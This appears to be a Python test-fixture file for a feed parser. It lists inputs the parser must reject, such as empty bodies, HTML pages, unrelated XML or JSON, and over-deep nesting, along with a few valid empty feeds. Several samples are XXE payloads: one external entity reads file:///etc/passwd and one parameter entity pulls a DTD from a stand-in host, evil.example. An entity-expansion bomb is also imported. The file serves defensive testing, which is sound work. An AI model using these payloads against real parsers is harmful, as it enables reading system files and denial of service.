"""Deliveries that are refused as a whole, and quiet feeds that are not."""

from __future__ import annotations

import gzip
from collections.abc import Iterator

from tests.core.collectors.hostile import BOMB

from .model import Sample, atom, rss

_EXTERNAL = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
_EXTERNAL += b'<rss version="2.0"><channel><item><title>&x;</title></item></channel></rss>'
_HIDDEN = b'<!DOCTYPE r [ <!-- <rss> --> <!ENTITY a "ha"> ]><rss version="2.0"><channel><item><title>&a;</title></item></channel></rss>'
_PARAMETER = b'<!DOCTYPE r [<!ENTITY % p SYSTEM "https://evil.example/x.dtd">%p;]><rss version="2.0"><channel></channel></rss>'


def samples() -> Iterator[Sample]:
    """Yield what is refused, with the code, and what is only empty."""
    for name, body, code in (
        ("nothing", b"", "empty"),
        ("blanks", b" \r\n\t\0", "empty"),
        ("mark only", b"\xef\xbb\xbf", "empty"),
        ("bomb", BOMB, "entity_bomb"),
        ("bomb in utf-16", BOMB.decode().encode("utf-16"), "entity_bomb"),
        ("external entity", _EXTERNAL, "entity_bomb"),
        ("entity behind a comment", _HIDDEN, "entity_bomb"),
        ("parameter entity", _PARAMETER, "entity_bomb"),
        ("web page", b"<!doctype html><html><head><title>404</title></head><body>no</body></html>", "not_a_feed"),
        ("web page in capitals", b"<HTML><BODY><P>no</BODY></HTML>", "not_a_feed"),
        ("words", "找不到页面".encode("gb18030"), "not_a_feed"),
        ("other xml", b'<?xml version="1.0"?><note><to>x</to></note>', "not_a_feed"),
        ("sitemap", b'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"></urlset>', "not_a_feed"),
        ("opml", b'<opml version="2.0"><body/></opml>', "not_a_feed"),
        ("other json", b'{"error": "no such route"}', "not_a_feed"),
        ("json list", b"[1, 2]", "not_a_feed"),
        ("json cut off", b'{"version": "https://jsonfeed.org/ver', "broken"),
        ("deep json", b'{"a":' * 20_000, "broken"),
        ("deep xml", b"<rss>" + b"<a>" * 100_000, "broken"),
        ("packed", gzip.compress(b"<rss/>" * 100), "not_a_feed"),
        ("png", b"\x89PNG\r\n\x1a\n" + bytes(range(256)), "not_a_feed"),
        ("only a root, cut off", b'<rss version="2.0"><channel><ti', "broken"),
    ):
        yield Sample(f"refused/{name}", body, refused=code)
    yield Sample("quiet/rss", rss([]).encode())
    yield Sample("quiet/atom", atom([]).encode())
    yield Sample("quiet/json", b'{"version": "https://jsonfeed.org/version/1.1", "title": "t", "items": []}')
